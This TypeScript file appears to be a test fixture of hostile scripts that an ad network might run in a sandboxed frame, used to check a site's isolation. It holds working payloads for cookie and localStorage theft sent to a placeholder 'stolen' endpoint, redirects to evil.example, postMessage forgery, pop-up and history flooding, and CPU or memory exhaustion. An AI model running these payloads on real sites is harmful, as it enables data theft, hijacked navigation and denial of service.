/**
 * What a hostile network may run in the frame of the isolated mode, by name; `SITE` and `ORIGIN` stand for the
 * addresses of site and network.
 */
const CANARY = 'try{top.__pwn=1}catch{};try{parent.__pwn=1}catch{};';
const PLACE =
  "document.currentScript.insertAdjacentHTML('afterend','<div id=net-ad><a href=https://sponsor.example/>Ad</a></div>');";

export const HOSTILE_SCRIPTS: Readonly<Record<string, string>> = {
  'loops for ever': 'for(;;){}',
  'loops for ever later': `${PLACE}setTimeout(()=>{for(;;){}},300)`,
  'takes memory':
    'const a=[];const f=()=>{for(let i=0;i<20;i++)a.push(new Array(1e5).fill(i));if(a.length<2000)setTimeout(f,5)};f()',
  alerts: 'for(let i=0;i<50;i++)alert(i)',
  'confirms and prompts': 'while(!confirm("?")&&!globalThis.n){prompt("?");globalThis.n=1}',
  prints: 'print()',
  'writes the document': 'document.write("<h1>"+"x".repeat(9999)+"</h1>")',
  'opens the document':
    'document.open();document.write("<script>parent.__pwn=1<\\/script>");document.close()',
  'leaves by top.location': 'top.location="https://evil.example/"',
  'leaves by top.location.href': 'top.location.href="https://evil.example/"',
  'leaves by top.location.replace': 'top.location.replace("https://evil.example/")',
  'leaves by parent.location': 'parent.location="javascript:window.__pwn=1"',
  'leaves by top.location and script': 'top.location="javascript:window.__pwn=1"',
  'leaves by window.open into _top': 'window.open("https://evil.example/","_top")',
  'leaves by a link':
    'const a=document.createElement("a");a.href="https://evil.example/";a.target="_top";document.body.append(a);a.click()',
  'leaves by a form':
    'const f=document.createElement("form");f.action="https://evil.example/";f.target="_top";document.body.append(f);f.submit()',
  'leaves by a meta refresh':
    'document.head.insertAdjacentHTML("beforeend","<meta http-equiv=refresh content=\'0;url=https://evil.example/\'>")',
  'opens windows': 'for(let i=0;i<20;i++)window.open("https://evil.example/"+i)',
  'opens windows by links':
    'for(let i=0;i<20;i++){const a=document.createElement("a");a.href="https://evil.example/";a.target="_blank";document.body.append(a);a.click()}',
  'opens windows at every click':
    'addEventListener("click",()=>window.open("https://evil.example/"),true);setInterval(()=>document.body.click(),50)',
  downloads:
    'const a=document.createElement("a");a.href="data:application/octet-stream,x";a.download="x.exe";document.body.append(a);a.click()',
  'fills the history':
    'for(let i=0;i<200;i++){try{history.pushState({},"","#"+i)}catch{}location.hash="h"+i}',
  'fills the history by and by': `${PLACE}let i=0;setInterval(()=>{try{history.pushState(i++,"")}catch{}},50)`,
  'fills the history by fragments': `${PLACE}let i=0;setInterval(()=>{location.hash="#"+i++},50)`,
  'goes back': 'history.back();history.go(-5)',
  'goes to the site': 'location="SITE/core/packages/"',
  'goes elsewhere': 'location="https://evil.example/"',
  'reads the page': `${CANARY}fetch("ORIGIN/stolen/"+encodeURIComponent(parent.document.cookie+parent.document.title))`,
  'reads storage':
    'fetch("ORIGIN/stolen/"+localStorage.getItem("secret"));fetch("ORIGIN/stolen/"+document.cookie)',
  'reads the site':
    'fetch("SITE/core/packages/",{credentials:"include"}).then(r=>r.text()).then(t=>fetch("ORIGIN/stolen/"+t.length))',
  'reads the site by a worker':
    'new Worker("data:text/javascript,for(;;){}");new Worker(URL.createObjectURL(new Blob(["for(;;){}"])))',
  'rids itself of the sandbox': `try{frameElement.removeAttribute("sandbox")}catch{};try{frameElement.sandbox=""}catch{};${CANARY}`,
  'nests a frame': `document.body.insertAdjacentHTML("beforeend","<iframe srcdoc=\\"<script>try{top.__pwn=1}catch{};alert(1);top.location='https://evil.example/'<\\/script>\\"></iframe>")`,
  'nests an empty frame': `const f=document.createElement("iframe");document.body.append(f);f.contentWindow.eval("${CANARY}top.alert(1)")`,
  'forges a link':
    'for(const link of ["javascript:window.__pwn=1","data:text/html,x","http://evil.example/","//e\\\\vil","https://a@b/"])parent.postMessage({placement:{link,text:"x"}},"*")',
  'forges other messages':
    'for(const m of [null,1,"x",[],{},{placement:1},{placement:{}},{type:"navigate",url:"https://evil.example/"},{__proto__:{placement:{link:"https://e.example/"}}}])parent.postMessage(m,"*")',
  'floods with messages':
    'setInterval(()=>{for(let i=0;i<500;i++)parent.postMessage({placement:{link:"https://e.example/"+i,text:"x"}},"*")},5)',
  // An inline script would be refused by the policy that the frame hands on.
  'floods from a frame of its own': `${PLACE}document.body.insertAdjacentHTML("beforeend","<iframe srcdoc=\\"<script src='ORIGIN/script/flood.js'><\\/script>\\"></iframe>")`,
  'sends huge messages':
    'for(let i=0;i<5;i++)parent.postMessage({placement:{link:"https://e.example/"+"x".repeat(5e6),text:"x".repeat(5e6)}},"*")',
  'takes the focus':
    'const i=document.createElement("input");i.autofocus=true;document.body.append(i);setInterval(()=>{focus();i.focus()},20)',
  'stays on leaving':
    'onbeforeunload=e=>{e.preventDefault();e.returnValue="stay";return "stay"};onunload=()=>alert(1)',
  'asks for everything':
    'try{Notification.requestPermission()}catch{};try{navigator.geolocation.getCurrentPosition(()=>{})}catch{};try{document.documentElement.requestFullscreen()}catch{};try{navigator.mediaDevices.getUserMedia({audio:true})}catch{};try{document.body.requestPointerLock()}catch{}',
  'registers a worker': 'try{navigator.serviceWorker.register("SITE/sw.js")}catch{}',
  'grows without end':
    'setInterval(()=>{document.body.style.cssText="position:fixed;inset:-9999px;width:99999px;height:99999px;z-index:2147483647;background:red"},10)',
  'throws at once': `${CANARY}throw new Error("network")`,
  'throws later': `${PLACE}setTimeout(()=>{throw new Error("network")},100);Promise.reject(new Error("network"))`,
  'calls the tag': 'try{top.gtag("event","pwn",{})}catch{};try{top.docsShell.restoreCode()}catch{}',
  'plays a sound':
    'new Audio("data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA=").play().catch(()=>{})',
};

/** Those that keep a processor busy, or could keep what comes after them from running: each gets a browser tab. */
export const GREEDY_SCRIPTS: ReadonlySet<string> = new Set([
  'loops for ever',
  'loops for ever later',
  'takes memory',
  'reads the site by a worker',
  'floods with messages',
  'floods from a frame of its own',
  'sends huge messages',
  'takes the focus',
  'fills the history',
  'fills the history by and by',
  'fills the history by fragments',
  'goes back',
]);
